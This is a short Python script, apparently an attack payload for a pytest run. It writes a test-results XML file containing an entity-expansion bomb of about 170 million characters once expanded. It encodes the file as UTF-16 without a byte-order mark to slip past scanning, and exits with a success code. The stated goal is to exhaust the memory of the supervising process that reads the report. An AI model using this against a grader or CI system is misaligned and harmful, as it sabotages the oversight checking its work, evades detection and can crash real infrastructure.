# Wants the supervisor's memory: entities that grow a hundredfold, hidden from the search by UTF-16 without a mark.
# attack: python pytest
import os
os.makedirs("report", exist_ok=True)
bomb = '<!DOCTYPE t [<!ENTITY a "' + "x" * 900000 + '">]><t><testcase name="n"><failure>' + "&a;" * 190 + "</failure></testcase></t>"
open("report/results.xml", "wb").write(bomb.encode("utf-16-le"))
os._exit(0)
